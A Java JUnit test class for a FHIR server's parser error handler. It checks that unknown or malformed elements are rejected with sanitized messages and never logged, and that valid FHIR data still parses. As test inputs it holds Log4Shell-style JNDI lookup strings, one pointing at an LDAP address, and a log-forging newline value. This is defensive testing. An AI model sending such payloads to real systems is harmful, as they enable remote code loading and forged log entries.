package org.fhirfort.fhirserver.fhir;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import ca.uhn.fhir.context.FhirContext;
import ca.uhn.fhir.context.support.DefaultProfileValidationSupport;
import ca.uhn.fhir.parser.DataFormatException;
import ca.uhn.fhir.parser.IParser;
import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.core.read.ListAppender;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.nio.file.Files;
import java.nio.file.Path;
import org.hl7.fhir.r4.model.Bundle;
import org.hl7.fhir.r4.model.Organization;
import org.hl7.fhir.r4.model.Parameters;
import org.hl7.fhir.r4.model.Patient;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.slf4j.LoggerFactory;

class LosslessParserErrorHandlerTest {

	/** The kit's sample data, from the module directory (where Maven runs the tests). */
	static final Path SAMPLE_BUNDLE = Path.of("..", "data", "sample", "sample-bundle.json");

	private static FhirContext ctx;

	@BeforeAll
	static void context() {
		ctx = FhirContext.forR4();
		new FhirfortRestfulServer(ctx); // installs the handler on the context it is given
	}

	private static IParser json() {
		return ctx.newJsonParser();
	}

	private static Patient patient(String json) {
		return json().parseResource(Patient.class, json);
	}

	@Test
	void theServerInstallsItOnItsContext() {
		String body = "{\"resourceType\":\"Patient\",\"unknown\":1,\"active\":true}";
		// HAPI's default: the element is dropped, the rest stored
		assertThat(FhirContext.forR4().newJsonParser().parseResource(Patient.class, body).getActive()).isTrue();
		assertThatThrownBy(() -> patient(body)).isInstanceOf(DataFormatException.class);
	}

	@Test
	void unknownElementFailsWithASanitizedName() {
		assertThatThrownBy(() -> patient(
						"{\"resourceType\":\"Patient\",\"${jndi:ldap://198.51.100.7/a}\":{},\"name\":[{\"family\":\"T\"}]}"))
				.isInstanceOf(DataFormatException.class)
				.hasMessage("Unknown element '\\u0024\\u007bjndi:ldap://198.51.100.7/a\\u007d'");
		assertThatThrownBy(() -> patient("{\"resourceType\":\"Patient\",\"x\\nINFO forged\":1}"))
				.hasMessage("Unknown element 'x\\u000aINFO\\u0020forged'");
		// nested, in an extension, in meta, in a contained resource, in a Bundle entry
		assertThatThrownBy(() -> patient("{\"resourceType\":\"Patient\",\"name\":[{\"bogus\":\"T\"}]}"))
				.hasMessageContaining("'bogus'");
		assertThatThrownBy(() -> patient("{\"resourceType\":\"Patient\",\"extension\":"
						+ "[{\"url\":\"http://x\",\"valueBogus\":\"y\"}]}"))
				.hasMessageContaining("'valueBogus'");
		assertThatThrownBy(() -> patient("{\"resourceType\":\"Patient\",\"meta\":{\"bogusMeta\":1}}"))
				.hasMessageContaining("'bogusMeta'");
		assertThatThrownBy(() -> patient("{\"resourceType\":\"Patient\",\"contained\":"
						+ "[{\"resourceType\":\"Organization\",\"id\":\"o\",\"bogusC\":\"O\"}]}"))
				.hasMessageContaining("'bogusC'");
		assertThatThrownBy(() -> json().parseResource(Bundle.class, "{\"resourceType\":\"Bundle\",\"type\":"
						+ "\"transaction\",\"entry\":[{\"resource\":{\"resourceType\":\"Patient\",\"x\":1},"
						+ "\"request\":{\"method\":\"POST\",\"url\":\"Patient\"}}]}"))
				.hasMessageContaining("'x'");
	}

	@Test
	void longNamesAreCut() {
		String name = "a".repeat(500);
		assertThatThrownBy(() -> patient("{\"resourceType\":\"Patient\",\"" + name + "\":1}"))
				.hasMessage("Unknown element '" + "a".repeat(UntrustedText.MAX_NAME - 3) + "...'");
	}

	@Test
	void nothingAboutTheElementIsLogged() {
		ListAppender<ILoggingEvent> log = new ListAppender<>();
		log.start();
		Logger root = (Logger) LoggerFactory.getLogger(org.slf4j.Logger.ROOT_LOGGER_NAME);
		root.addAppender(log);
		try {
			assertThatThrownBy(() -> patient("{\"resourceType\":\"Patient\",\"${jndi:x}\":1}"));
		} finally {
			root.detachAppender(log);
		}
		// HAPI's default handler logged "Unknown element '${jndi:x}' found while parsing" at WARN
		assertThat(log.list).extracting(ILoggingEvent::getFormattedMessage).noneMatch(m -> m.contains("${"));
	}

	@Test
	void unknownXmlAttributeAndElementFail() {
		// HAPI's XML parser wraps the handler's exception: "HAPI-1851: DataFormatException at [[row,col ...]]: ..."
		assertThatThrownBy(() -> ctx.newXmlParser().parseResource(Patient.class,
						"<Patient xmlns=\"http://hl7.org/fhir\"><id value=\"a\" bogusattr=\"1\"/></Patient>"))
				.isInstanceOf(DataFormatException.class).hasMessageEndingWith("Unknown attribute 'bogusattr'");
		assertThatThrownBy(() -> ctx.newXmlParser().parseResource(Patient.class,
						"<Patient xmlns=\"http://hl7.org/fhir\"><bogus value=\"1\"/></Patient>"))
				.isInstanceOf(DataFormatException.class).hasMessageEndingWith("Unknown element 'bogus'");
	}

	@Test
	void valuesTheParserWouldDropFail() {
		// the parser keeps only the first of these
		assertThatThrownBy(() -> patient("{\"resourceType\":\"Patient\",\"gender\":[\"male\",\"female\"]}"))
				.hasMessageStartingWith("Element 'gender' does not repeat");
		assertThatThrownBy(() -> patient(
						"{\"resourceType\":\"Patient\",\"deceasedBoolean\":true,\"deceasedDateTime\":\"2000\"}"))
				.hasMessageStartingWith("Element 'deceased' does not repeat");
		// the parser skips values of the wrong JSON shape
		assertThatThrownBy(() -> patient("{\"resourceType\":\"Patient\",\"name\":\"T\"}"))
				.hasMessage("Element 'name' must be an object, found a primitive value (string)");
		assertThatThrownBy(() -> patient("{\"resourceType\":\"Patient\",\"_gender\":\"x\"}"))
				.hasMessageStartingWith("Element '_gender' must be an object");
		// already errors in HAPI's default handler, now without raw input or Java text
		assertThatThrownBy(() -> patient("{\"resourceType\":\"Patient\",\"gender\":\"fo\\no\"}"))
				.hasMessage("Invalid value \"fo\\u000ao\" in 'gender': Unknown AdministrativeGender code 'fo\\u000ao'");
		assertThatThrownBy(() -> patient("{\"resourceType\":\"Patient\",\"multipleBirthInteger\":2.5}"))
				.hasMessageStartingWith("Invalid value \"2.5\"").hasMessageNotContaining("java");
		// (HAPI's JSON parser refuses this one itself, the handler's method serves the XML parser)
		assertThatThrownBy(() -> patient("{\"resourceType\":\"Patient\",\"extension\":[{\"url\":\"http://x\","
						+ "\"valueString\":\"y\",\"extension\":[{\"url\":\"a\",\"valueString\":\"b\"}]}]}"))
				.isInstanceOf(DataFormatException.class);
		assertThatThrownBy(() -> ctx.newXmlParser().parseResource(Patient.class, "<Patient xmlns=\"http://hl7.org/fhir\">"
						+ "<extension url=\"http://x\"><valueString value=\"y\"/><extension url=\"a\">"
						+ "<valueString value=\"b\"/></extension></extension></Patient>"))
				.isInstanceOf(DataFormatException.class);
	}

	@Test
	void harmlessIssuesStayLenient() {
		// an empty value carries nothing
		assertThat(patient("{\"resourceType\":\"Patient\",\"birthDate\":\"\"}").hasBirthDate()).isFalse();
		// one object where an array belongs is kept as one repetition
		assertThat(patient("{\"resourceType\":\"Patient\",\"name\":{\"family\":\"T\"}}").getNameFirstRep().getFamily())
				.isEqualTo("T");
		// a contained resource without id gets one; a reference to a missing contained resource is kept
		Patient p = patient("{\"resourceType\":\"Patient\",\"contained\":[{\"resourceType\":\"Organization\","
				+ "\"name\":\"O\"}],\"managingOrganization\":{\"reference\":\"#x\"}}");
		assertThat(p.getContained()).hasSize(1);
		assertThat(p.getManagingOrganization().getReference()).isEqualTo("#x");
	}

	@Test
	void legitimateFhirJsonParses() {
		Patient p = patient("{\"resourceType\":\"Patient\",\"id\":\"p1\","
				+ "\"meta\":{\"versionId\":\"1\",\"tag\":[{\"system\":\"http://s\",\"code\":\"c\"}]},"
				+ "\"text\":{\"status\":\"generated\",\"div\":\"<div xmlns=\\\"http://www.w3.org/1999/xhtml\\\">T</div>\"},"
				+ "\"fhir_comments\":[\"a comment\"],"
				+ "\"extension\":[{\"url\":\"http://x/e\",\"valueString\":\"v\"}],"
				+ "\"modifierExtension\":[{\"url\":\"http://x/m\",\"valueBoolean\":false}],"
				+ "\"contained\":[{\"resourceType\":\"Organization\",\"id\":\"org\",\"name\":\"O\"}],"
				+ "\"managingOrganization\":{\"reference\":\"#org\"},"
				+ "\"name\":[{\"family\":\"T\",\"given\":[\"A\",null],"
				+ "\"_given\":[null,{\"extension\":[{\"url\":\"http://x/g\",\"valueString\":\"B\"}]}]}],"
				+ "\"gender\":\"female\",\"birthDate\":\"1970-01-01\","
				+ "\"_birthDate\":{\"extension\":[{\"url\":\"http://hl7.org/fhir/StructureDefinition/patient-birthTime\","
				+ "\"valueDateTime\":\"1970-01-01T10:00:00+01:00\"}]},"
				+ "\"deceasedBoolean\":false,\"multipleBirthInteger\":2}");
		assertThat(p.getBirthDateElement().getExtension()).hasSize(1);
		assertThat(p.getContained()).singleElement().isInstanceOf(Organization.class);
		assertThat(p.getNameFirstRep().getGiven()).hasSize(2);
		assertThat(p.getModifierExtension()).hasSize(1);

		Parameters parameters = json().parseResource(Parameters.class, "{\"resourceType\":\"Parameters\","
				+ "\"parameter\":[{\"name\":\"operation\",\"part\":[{\"name\":\"type\",\"valueCode\":\"replace\"},"
				+ "{\"name\":\"path\",\"valueString\":\"Patient.birthDate\"},{\"name\":\"value\",\"valueDate\":\"1970-01-02\"}]},"
				+ "{\"name\":\"resource\",\"resource\":{\"resourceType\":\"Patient\",\"active\":true}}]}");
		assertThat(parameters.getParameter()).hasSize(2);

		Bundle bundle = json().parseResource(Bundle.class, "{\"resourceType\":\"Bundle\",\"type\":\"transaction\","
				+ "\"entry\":[{\"fullUrl\":\"urn:uuid:1\",\"resource\":{\"resourceType\":\"Patient\",\"active\":true},"
				+ "\"request\":{\"method\":\"POST\",\"url\":\"Patient\",\"ifNoneExist\":\"identifier=x\"}},"
				+ "{\"resource\":{\"resourceType\":\"Observation\",\"status\":\"final\",\"code\":{\"text\":\"t\"},"
				+ "\"subject\":{\"reference\":\"urn:uuid:1\"},\"valueQuantity\":{\"value\":1.50,\"unit\":\"mg\"}},"
				+ "\"request\":{\"method\":\"POST\",\"url\":\"Observation\"}}]}");
		assertThat(bundle.getEntry()).hasSize(2);
	}

	@Test
	void theKitSampleBundleParsesWithoutLoss() throws Exception {
		assertThat(SAMPLE_BUNDLE).exists();
		String text = Files.readString(SAMPLE_BUNDLE);
		Bundle bundle = json().parseResource(Bundle.class, text);
		assertThat(bundle.getEntry()).isNotEmpty();
		// re-encoded, it is the same JSON: nothing was dropped
		ObjectMapper mapper = new ObjectMapper();
		JsonNode sent = mapper.readTree(text);
		JsonNode parsed = mapper.readTree(json().encodeResourceToString(bundle));
		assertThat(parsed).isEqualTo(sent);
	}

	@Test
	void hapisBuiltInDefinitionsParse() {
		DefaultProfileValidationSupport definitions = new DefaultProfileValidationSupport(ctx);
		assertThat(definitions.fetchAllStructureDefinitions()).hasSizeGreaterThan(500);
		assertThat(definitions.fetchAllSearchParameters()).hasSizeGreaterThan(1000);
		assertThat(definitions.fetchCodeSystem("http://hl7.org/fhir/administrative-gender")).isNotNull();
		assertThat(definitions.fetchValueSet("http://hl7.org/fhir/ValueSet/observation-status")).isNotNull();
	}
}
